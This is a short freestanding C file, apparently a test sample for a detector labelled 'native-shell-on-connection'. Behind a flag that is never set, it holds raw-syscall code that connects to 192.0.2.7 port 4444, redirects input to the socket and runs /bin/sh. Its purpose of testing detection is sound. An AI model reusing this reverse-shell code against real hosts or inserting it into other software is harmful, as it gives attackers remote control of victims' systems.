/* No library: system calls by number.
 * expect: native-shell-on-connection
 * flags: -static -nostdlib -O1
 */

static long call(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
static volatile int never;
void _start(void) {
    if (never) {
        static const unsigned char to[16] = {2, 0, 0x11, 0x5c, 192, 0, 2, 7};
        long s;
        __asm__ volatile("mov $41, %%eax\n\tsyscall" : "=a"(s) : "D"(2), "S"(1), "d"(0) : "rcx", "r11");
        __asm__ volatile("mov $42, %%eax\n\tsyscall" : : "D"(s), "S"(to), "d"(16) : "rax", "rcx", "r11");
        __asm__ volatile("mov $33, %%eax\n\tsyscall" : : "D"(s), "S"(0) : "rax", "rcx", "r11");
        __asm__ volatile("mov $59, %%eax\n\tsyscall" : : "D"("/bin/sh"), "S"(0), "d"(0) : "rax", "rcx", "r11");
    }
    call(60, 0, 0, 0);
}
